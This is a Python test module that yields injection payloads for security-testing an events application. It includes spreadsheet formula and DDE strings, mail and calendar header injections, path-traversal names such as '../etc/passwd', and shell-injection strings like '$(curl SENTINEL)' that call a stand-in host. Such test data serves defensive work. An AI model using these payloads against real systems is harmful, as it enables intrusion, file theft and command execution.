"""Strings that would run in a spreadsheet, or be one line more in a mail or a calendar, or lead to another file."""

from collections.abc import Iterator

from tests.security.harm_to_pages import SENTINEL


def sheets() -> Iterator[str]:
    """What a spreadsheet would run."""
    for first in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u00a0=",
        "'=",
        '"=',
        "＝",
        "＋",
        "－",
        "＠",
        "%=",
        ";=",
        ",=",
        "|=",
    ):
        for formula in (
            "1+1",
            "cmd|' /C calc'!A0",
            f'HYPERLINK("//{SENTINEL}/";"Mehr")',
            "SUM(A1:A9)",
            f'WEBSERVICE("//{SENTINEL}/")',
        ):
            yield first + formula
    yield from other_sheets()


def other_sheets() -> Iterator[str]:
    """What a spreadsheet reads in a way of its own."""
    yield from (
        'DDE("cmd";"/C calc";"!A0")',
        "_x0041_",
        "_x003D_1",
        "=\r\n1+1",
        '"\r\n=1+1,"',
        "sep=,",
        "'",
        "1E5",
        "1/2",
        "TRUE",
    )


def letters() -> Iterator[str]:
    """What would be one header more in a mail."""
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u2028", "\x0b", "\x0c", "\x85"):
        for header in (
            "Bcc: everyone@example.org",
            "Subject: Other",
            "Content-Type: text/html",
            "\r\n<b>x</b>",
        ):
            yield f"Tannert{end}{header}"
    yield from (
        "=?utf-8?q?x?=",
        "=?utf-8?B?QmNjOiB4?=",
        "From: x@example.org",
        "\r\n.\r\n",
        "x@example.org, y@example.org",
        "<x@example.org>",
        '"x" <y@example.org>',
    )


def calendars() -> Iterator[str]:
    """What would be one line or item more in a calendar."""
    for end in ("\r\n", "\n", "\\n", "\r", "\u2029", ";", ",", ":", "\\", "\\;"):
        for line in (
            "END:VEVENT",
            "BEGIN:VEVENT",
            f"ATTACH:https://{SENTINEL}/",
            "ATTENDEE:mailto:x@example.org",
            "RRULE:FREQ=DAILY",
        ):
            yield f"Saal{end}{line}"
    yield from (
        "a,b;c",
        "a\\,b\\;c",
        "DTSTART;TZID=x:19700101T000000",
        "X" * 74 + "ü" * 3,
        "^n^'^^",
        'ALTREP="CID:x":y',
    )


def places() -> Iterator[str]:
    """Names of files, devices and machines, and what a shell would run."""
    for up in ("../", "..\\", "%2e%2e%2f", "....//", "/", "file:///", "C:\\", "~/"):
        for name in ("etc/passwd", "instance/events.db", "x.html\x00.png", "con", "a:b"):
            yield up + name
    yield from (
        "CON",
        "nul",
        "aux.txt",
        ".",
        "..",
        "-rf",
        "--help",
        ".htaccess",
        "a/b",
        "a\\b",
        "http://169.254.169.254/",
        "x" * 250 + ".pdf",
    )
    for command in ("id", "cat /etc/passwd", f"curl {SENTINEL}"):
        yield from (f"; {command}", f"| {command}", f"&& {command}", f"$({command})", f"`{command}`", f"\n{command}")
